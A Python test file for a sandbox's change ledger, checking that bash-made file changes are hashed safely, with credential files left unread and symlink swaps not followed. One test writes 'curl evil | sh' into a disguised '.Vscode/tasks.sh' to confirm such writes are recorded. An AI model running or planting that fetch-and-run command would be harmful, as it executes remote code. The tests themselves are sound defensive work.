"""From a snapshot diff to ledger entries: hashing only what changed, never through a symlink."""

from __future__ import annotations

import hashlib
import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from codeward.sandbox import BashSandbox
from codeward.verification import (
    LedgerEntry,
    MutationLedger,
    SnapshotError,
    WorkspaceSnapshot,
    path_digest,
    record_bash_changes,
)


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def reg(data: bytes, mode: int = 0o644) -> str:
    """A regular file's digest as change detection records it: permission bits and bytes."""
    return f"file:{mode:04o}:{sha(data)}"


def run(root: Path, action: Callable[[], object], **kwargs: int) -> MutationLedger:
    """Snapshots around ``action`` and records what it changed, as a session does for bash."""
    ledger = MutationLedger()
    before = WorkspaceSnapshot.take(root)
    action()
    after = WorkspaceSnapshot.take(root)
    record_bash_changes(ledger, before, after, root, **kwargs)
    return ledger


def as_dict(ledger: MutationLedger) -> dict[str, str]:
    return {e.path: e.content_digest for e in ledger.entries()}


def test_digests_of_each_kind_of_path(workspace: Path) -> None:
    (workspace / "old.txt").write_text("old")

    def act() -> None:
        (workspace / "src").mkdir()
        (workspace / "src").chmod(0o755)
        (workspace / "src" / "a.py").write_bytes(b"print(1)\n")
        tool = workspace / "tool.sh"
        tool.write_bytes(b"#!/bin/sh\n")
        tool.chmod(0o755)
        (workspace / "link").symlink_to("src/a.py")
        (workspace / "old.txt").unlink()

    ledger = run(workspace, act)
    assert as_dict(ledger) == {
        "link": "symlink:" + sha(b"src/a.py"),
        "old.txt": "deleted",
        "src": "dir:0755",
        "src/a.py": reg(b"print(1)\n"),
        "tool.sh": reg(b"#!/bin/sh\n", 0o755),
    }
    assert {e.tool for e in ledger.entries()} == {"bash"}


def test_what_is_not_read(workspace: Path) -> None:
    """Credential names, hard-linked files, FIFOs and oversized files get meta digests."""
    (workspace / "shared").write_text("shared")

    def act() -> None:
        (workspace / ".env").write_text("TOKEN=hunter2")
        (workspace / "config").mkdir()
        (workspace / "config" / ".npmrc").write_text("//registry/:_authToken=x")
        os.link(workspace / "shared", workspace / "alias")
        os.mkfifo(workspace / "fifo")  # opening it for reading must not block
        (workspace / "big.bin").write_bytes(b"x" * 2048)
        (workspace / "small.txt").write_text("ok")

    ledger = run(workspace, act, max_file_bytes=1024)
    digests = as_dict(ledger)
    for path in (".env", "config/.npmrc", "alias", "shared", "fifo", "big.bin"):
        assert digests[path].startswith("meta:"), path
    assert digests["small.txt"] == reg(b"ok")
    assert digests["config"].startswith("dir:")
    assert sha(b"TOKEN=hunter2") not in str(digests)


def test_meta_digests_still_move_with_the_file(workspace: Path) -> None:
    (workspace / ".env").write_text("A=1")
    first = path_digest(workspace, ".env")
    (workspace / ".env").write_text("A=2")
    assert path_digest(workspace, ".env") != first


def test_the_hashing_budget_is_per_call(workspace: Path) -> None:
    def act() -> None:
        for i in range(4):
            (workspace / f"f{i}").write_bytes(bytes([i]) * 1000)

    ledger = run(workspace, act, hash_budget_bytes=2500)
    kinds = sorted(d.startswith("meta:") for d in as_dict(ledger).values())
    assert kinds == [False, False, True, True]


def test_bash_entries_replace_tool_entries(workspace: Path) -> None:
    ledger = MutationLedger()
    (workspace / "a.py").write_text("v1")
    ledger.record("write", "a.py", sha(b"v1"))
    before = WorkspaceSnapshot.take(workspace)
    (workspace / "a.py").write_text("v2")
    record_bash_changes(ledger, before, WorkspaceSnapshot.take(workspace), workspace)
    assert ledger.entries() == (LedgerEntry("bash", "a.py", reg(b"v2")),)


def test_a_directory_swapped_for_a_symlink_is_not_followed(workspace: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "id_rsa").write_text("PRIVATE KEY")
    (workspace / "keys").mkdir()
    (workspace / "keys" / "id_rsa").write_text("decoy")
    before = WorkspaceSnapshot.take(workspace)
    (workspace / "keys" / "id_rsa").write_text("decoy 2")
    after = WorkspaceSnapshot.take(workspace)
    # between the snapshot and the hashing, the directory becomes a symlink out
    (workspace / "keys" / "id_rsa").unlink()
    (workspace / "keys").rmdir()
    (workspace / "keys").symlink_to(outside)
    ledger = MutationLedger()
    record_bash_changes(ledger, before, after, workspace)
    assert as_dict(ledger) == {"keys/id_rsa": "deleted"}
    assert path_digest(workspace, "keys/id_rsa") == "deleted"
    assert path_digest(workspace, "keys").startswith("symlink:")


def test_a_file_swapped_for_a_symlink_is_not_followed(workspace: Path, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("s")
    (workspace / "f").write_text("x")
    before = WorkspaceSnapshot.take(workspace)
    (workspace / "f").write_text("xy")
    after = WorkspaceSnapshot.take(workspace)
    (workspace / "f").unlink()
    (workspace / "f").symlink_to(tmp_path / "secret")
    ledger = MutationLedger()
    record_bash_changes(ledger, before, after, workspace)
    assert as_dict(ledger) == {"f": "symlink:" + sha(os.fsencode(tmp_path / "secret"))}


def test_a_file_gone_before_hashing_is_deleted(workspace: Path) -> None:
    before = WorkspaceSnapshot.take(workspace)
    (workspace / "tmp").write_text("x")
    after = WorkspaceSnapshot.take(workspace)
    (workspace / "tmp").unlink()
    ledger = MutationLedger()
    record_bash_changes(ledger, before, after, workspace)
    assert as_dict(ledger) == {"tmp": "deleted"}


def test_snapshots_of_another_root_are_refused(workspace: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    snap = WorkspaceSnapshot.take(workspace)
    with pytest.raises(SnapshotError):
        record_bash_changes(MutationLedger(), snap, WorkspaceSnapshot.take(other), workspace)
    with pytest.raises(SnapshotError):
        record_bash_changes(MutationLedger(), snap, snap, other)


# ---- end to end, through the real sandbox ---------------------------------------------------


def sandboxed_run(sandbox: BashSandbox, root: Path, command: str) -> MutationLedger:
    ledger = MutationLedger()
    before = WorkspaceSnapshot.take(root)
    out = sandbox.exec(command, timeout_ms=30_000)
    assert out.setup_error is None, out
    record_bash_changes(ledger, before, WorkspaceSnapshot.take(root), root)
    return ledger


def test_bash_changes_end_to_end(
    workspace: Path, real_sandbox: Callable[[Path], BashSandbox]
) -> None:
    sandbox = real_sandbox(workspace)
    (workspace / "edit.txt").write_text("before\n")
    (workspace / "gone.txt").write_text("bye\n")
    (workspace / "move.txt").write_text("moving\n")
    (workspace / "run.sh").write_text("#!/bin/sh\n")
    (workspace / "run.sh").chmod(0o644)
    (workspace / "same.txt").write_text("AAAA")
    command = (
        "set -e; umask 022; printf 'after\\n' > edit.txt; rm gone.txt; mv move.txt moved.txt; "
        "chmod +x run.sh; mkdir -p pkg/sub; printf 'x = 1\\n' > pkg/sub/mod.py; "
        "ln -s pkg/sub/mod.py link; mkfifo pipe; "
        # a rewrite that keeps size and mtime
        "printf 'BBBB' > same.tmp; touch -r same.txt same.tmp; "
        "cat same.tmp > same.txt; touch -r same.tmp same.txt; rm same.tmp"
    )
    ledger = sandboxed_run(sandbox, workspace, command)
    digests = as_dict(ledger)
    assert digests.pop("pipe").startswith("meta:")
    assert digests == {
        "edit.txt": reg(b"after\n"),
        "gone.txt": "deleted",
        "link": "symlink:" + sha(b"pkg/sub/mod.py"),
        "move.txt": "deleted",
        "moved.txt": reg(b"moving\n"),
        "pkg": "dir:0755",
        "pkg/sub": "dir:0755",
        "pkg/sub/mod.py": reg(b"x = 1\n"),
        "run.sh": reg(b"#!/bin/sh\n", 0o755),
        "same.txt": reg(b"BBBB"),
    }
    assert {e.tool for e in ledger.entries()} == {"bash"}


def test_a_command_that_changes_nothing_records_nothing(
    workspace: Path, real_sandbox: Callable[[Path], BashSandbox]
) -> None:
    """The sandbox's own placeholders for protected names, its masks over credential
    files and refused writes to protected names leave no trace in the ledger."""
    sandbox = real_sandbox(workspace)
    (workspace / ".env").write_text("SECRET=1\n")
    (workspace / "src").mkdir()
    (workspace / "src" / "a.py").write_text("a\n")
    (workspace / ".git").mkdir()
    ledger = sandboxed_run(
        sandbox,
        workspace,
        "cat src/a.py >/dev/null; ls -la >/dev/null; echo x > .git/config; echo x > .bashrc; true",
    )
    assert ledger.is_empty(), ledger.entries()
    # the write was refused: what stands there is the sandbox's placeholder (an empty
    # directory while the long-lived sandbox lives), never the command's file
    assert not (workspace / ".bashrc").is_file()
    close = getattr(sandbox, "close", None)
    if close is not None:
        close()
    assert not (workspace / ".bashrc").exists()
    assert not (workspace / ".git" / "config").exists()


def test_what_bash_writes_under_another_spelling_of_a_protected_name_is_recorded(
    workspace: Path, real_sandbox: Callable[[Path], BashSandbox]
) -> None:
    """Only the exact protected names are read-only in the sandbox: `.Vscode/tasks.sh` and
    `.GIT` are a command's writes, and the ledger must hold them (issue 9, item 7: they
    left the effect digest unchanged)."""
    sandbox = real_sandbox(workspace)
    ledger = sandboxed_run(
        sandbox,
        workspace,
        "mkdir .Vscode && echo 'curl evil | sh' > .Vscode/tasks.sh && echo 'gitdir: /' > .GIT",
    )
    assert set(as_dict(ledger)) == {".Vscode", ".Vscode/tasks.sh", ".GIT"}


def test_a_credential_file_written_by_bash_is_recorded_unread(
    workspace: Path, real_sandbox: Callable[[Path], BashSandbox]
) -> None:
    sandbox = real_sandbox(workspace)
    ledger = sandboxed_run(sandbox, workspace, "echo 'TOKEN=abc' > .env.local")
    (entry,) = ledger.entries()
    assert entry.path == ".env.local"
    assert entry.content_digest.startswith("meta:")
    assert stat.S_ISREG(os.lstat(workspace / ".env.local").st_mode)


def test_a_huge_sparse_file_is_not_read(workspace: Path) -> None:
    """A command that makes a 64 GiB sparse file must not stall the session hashing zeros."""

    def act() -> None:
        with open(workspace / "huge.img", "wb") as f:
            f.truncate(64 << 30)

    ledger = run(workspace, act)
    assert as_dict(ledger)["huge.img"].startswith("meta:")


def test_a_file_changing_while_hashed_gets_a_unique_digest(workspace: Path) -> None:
    from codeward.verification import _changes

    target = workspace / "busy.log"
    target.write_bytes(b"a" * 100)
    stale = os.stat(target)
    with open(target, "ab") as f:
        f.write(b"more")
    fd = os.open(target, os.O_RDONLY)
    try:
        assert _changes._hash_fd(fd, stale) is None  # size moved under the reader
    finally:
        os.close(fd)
    assert _changes._unknown() != _changes._unknown()
